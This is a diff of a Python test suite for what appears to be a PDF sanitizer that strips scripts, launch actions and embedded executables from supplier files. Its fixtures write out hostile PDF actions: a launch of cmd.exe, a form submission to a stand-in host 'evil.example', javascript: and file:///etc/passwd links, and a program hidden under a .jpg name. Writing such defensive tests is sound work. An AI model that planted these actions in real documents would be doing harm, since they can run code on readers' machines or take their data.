@@ -12,7 +12,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from pikepdf import Array, Dictionary, Name, Pdf, String
 
+from payclerk_core.documents.package_files import acts
 from payclerk_core.documents.package_source import MOST_PAGES, NotIncludedError, read_source
+from payclerk_core.documents.package_tree import dictionaries, typed_fields
 from payclerk_core.documents.typeset import typeset
 
 CODE = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
@@ -198,28 +200,121 @@ def test_fields_in_a_loop_end():
         read_source(saved(pdf))
 
 
+def wide_form(levels, width):
+    """Every field refers `width` times to the next level: `width` to the power of `levels` ways, few objects."""
+    pdf = blank()
+    kids = Array([pdf.make_indirect(Dictionary(FT=Name.Sig, V=Dictionary(Type=Name.Sig)))])
+    for _ in range(levels):
+        field = pdf.make_indirect(Dictionary(T=String("f"), Kids=kids))
+        kids = Array([field] * width)
+    pdf.Root.AcroForm = Dictionary(Fields=kids)
+    return pdf
+
+
+def test_a_field_is_looked_at_once_however_many_ways_lead_to_it():
+    pdf = wide_form(4, 3)
+    assert len(list(typed_fields(pdf.Root.AcroForm))) == 5
+    assert "digitally signed" in read_source(saved(pdf)).lost
+
+
+def test_fields_that_refer_to_each_other_are_looked_at_once():
+    pdf = blank()
+    fields = [pdf.make_indirect(Dictionary(T=String(str(number)))) for number in range(30)]
+    for field in fields:
+        field.Kids = Array(fields)
+    pdf.Root.AcroForm = Dictionary(Fields=Array(fields))
+    assert len(list(typed_fields(pdf.Root.AcroForm))) == 30
+
+
+def test_bookmarks_that_refer_to_each_other_are_read_once():
+    pdf = blank()
+    items = [
+        pdf.make_indirect(Dictionary(Title=String(str(number)), Dest=Array([pdf.pages[0].obj, Name.Fit])))
+        for number in range(4)
+    ]
+    for item, following in zip(items, [*items[1:], items[0]], strict=True):
+        item.Next = item.First = following
+    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=items[0], Last=items[-1], Count=4))
+    assert sorted(mark.title for mark in read_source(saved(pdf)).bookmarks) == ["0", "1", "2", "3"]
+
+
 @pytest.mark.parametrize(
     "action",
     [
         CODE,
         Dictionary(S=Name.Launch, F=String("cmd.exe")),
         Dictionary(S=Name.SubmitForm, F=String("http://evil.example")),
-        Dictionary(S=Name.URI, URI=String("http://a.example"), Next=CODE),
+        Dictionary(S=Name.ImportData, F=String("//server.example/data.fdf")),
+        Dictionary(S=Name.GoToR, F=String("//server.example/other.pdf"), D=Array([0, Name.Fit])),
+        Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")),
+        Dictionary(S=Name.URI, URI=String(" JavaScript:app.alert(1)")),
+        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
+        Dictionary(S=Name.URI, URI=String("Ticket.exe")),
+        Dictionary(S=Name.URI, URI=String("payclerk-page:1")),
     ],
 )
 def test_a_link_that_acts_no_longer_does(action):
     source = read_source(with_annotation(Subtype=Name.Link, A=action, AA=Dictionary(U=CODE), PA=CODE))
-    assert b"JavaScript" not in source.pdf
+    assert source.runs == "it holds scripts or actions"
     with Pdf.open(io.BytesIO(source.pdf)) as pdf:
-        for note in pdf.pages[0].get("/Annots", []):
-            assert not {"/A", "/AA", "/PA"} & set(note.keys())
+        assert "/Annots" not in pdf.pages[0]
+        assert active(pdf) == []
 
 
-def test_a_plain_link_stays():
-    link = Dictionary(S=Name.URI, URI=String("https://supplier.example"))
-    source = read_source(with_annotation(Subtype=Name.Link, A=link))
+def active(pdf):
+    """What acts or carries files in a file, wherever it is."""
+    keys = {"/JS", "/AA", "/OpenAction", "/Launch", "/EF", "/Names", "/AcroForm", "/Next"}
+    return [key for one in dictionaries(pdf) for key in set(one.keys()) if key in keys or acts(one)]
+
+
+WEB = ["https://supplier.example/a?b=c#d", "HTTP://a.example", "mailto:billing@a.example", "tel:+1-512-555-0100"]
+
+
+@pytest.mark.parametrize("target", WEB)
+def test_a_plain_link_stays_and_nothing_follows_it(target):
+    link = Dictionary(S=Name.URI, URI=String(target), Next=CODE)
+    source = read_source(with_annotation(Subtype=Name.Link, A=link, AA=Dictionary(U=CODE), PA=CODE))
     with Pdf.open(io.BytesIO(source.pdf)) as pdf:
-        assert str(pdf.pages[0].Annots[0].A.URI) == "https://supplier.example"
+        assert str(pdf.pages[0].Annots[0].A.URI) == target
+        assert active(pdf) == []
+
+
+def test_an_original_without_actions_may_travel_along():
+    assert read_source(with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(WEB[0])))).runs == ""
+
+
+def test_bookmarks_and_fields_keep_no_action():
+    pdf = with_field(blank(), Name.Tx, String("1"))
+    pdf.Root.AcroForm.Fields[0].AA = Dictionary(K=CODE, F=CODE)
+    pdf.Root.AcroForm.CO = Array([pdf.Root.AcroForm.Fields[0]])
+    item = pdf.make_indirect(Dictionary(Title=String("Prices"), A=Dictionary(S=Name.Launch, F=String("a.exe"))))
+    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))
+    source = read_source(saved(pdf))
+    assert (source.bookmarks, source.runs) == ((), "it holds scripts or actions")
+    with Pdf.open(io.BytesIO(source.pdf)) as flat:
+        assert active(flat) == []
+
+
+def test_what_a_drawing_takes_from_another_file_is_dropped_and_its_names_stay():
+    pdf = with_field(blank(), Name.Tx, String("1"), "shown")
+    drawing = pdf.Root.AcroForm.Fields[0].AP.N
+    drawing.Ref = Dictionary(F=String("//server.example/x.pdf"), Page=0)
+    drawing.Resources.Font.JS = drawing.Resources.Font.A = drawing.Resources.Font.F
+    with Pdf.open(io.BytesIO(read_source(saved(pdf)).pdf)) as flat:
+        (drawing,) = flat.pages[0].Resources.XObject.values()
+        assert "/Ref" not in drawing
+        assert set(drawing.Resources.Font.keys()) == {"/A", "/F", "/JS"}
+
+
+@pytest.mark.parametrize("name", ["setup.exe", "run.js", "invoice.pdf.bat", "no name at all"])
+def test_a_file_inside_that_can_run_keeps_the_original_out(name):
+    source = read_source(attached_by_note(name))
+    assert source.lost == (f"holds files: {name}",)
+    assert source.runs == "a file in it can run"
+
+
+def test_a_program_under_a_harmless_name_is_known_by_its_start():
+    assert read_source(attached_by_note("photo.jpg", b"MZ\x90\x00")).runs == "a file in it can run"
 
 
 @pytest.mark.parametrize("key", ["/OpenAction", "/AA"])
@@ -228,12 +323,23 @@ def test_nothing_runs_when_the_file_opens(key):
     pdf.Root[key] = CODE
     pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), CODE])))
     pdf.pages[0].AA = Dictionary(O=CODE)
-    assert b"JavaScript" not in read_source(saved(pdf)).pdf
+    source = read_source(saved(pdf))
+    assert source.runs == "it holds scripts or actions"
+    with Pdf.open(io.BytesIO(source.pdf)) as flat:
+        assert active(flat) == []
 
 
 def embedded():
     pdf = blank()
     pdf.attachments["inner.txt"] = b"inside"
+    return saved(pdf)
+
+
+def attached_by_note(name="Ticket 14.pdf", content=b"%PDF-1.7"):
+    pdf = blank()
+    spec = Dictionary(Type=Name.Filespec, UF=String(name), EF=Dictionary(F=pdf.make_stream(content)))
+    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 10, 10], FS=spec)
+    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])
     return saved(pdf)
 
 
@@ -259,10 +365,10 @@ def xfa():
 @pytest.mark.parametrize(
     ("content", "why"),
     [
-        (embedded(), "holds other files or media"),
-        (portfolio(), "holds other files or media"),
-        (with_annotation(Subtype=Name.FileAttachment), "holds other files or media"),
-        (with_annotation(Subtype=Name.RichMedia), "holds other files or media"),
+        (embedded(), "holds files: inner.txt"),
+        (portfolio(), "holds files: inner.txt"),
+        (attached_by_note(), "holds files: Ticket 14.pdf"),
+        (with_annotation(Subtype=Name.RichMedia), "holds media"),
         (hidden_layer(), "has hidden layers, shown here"),
         (xfa(), "an XFA form"),
     ],
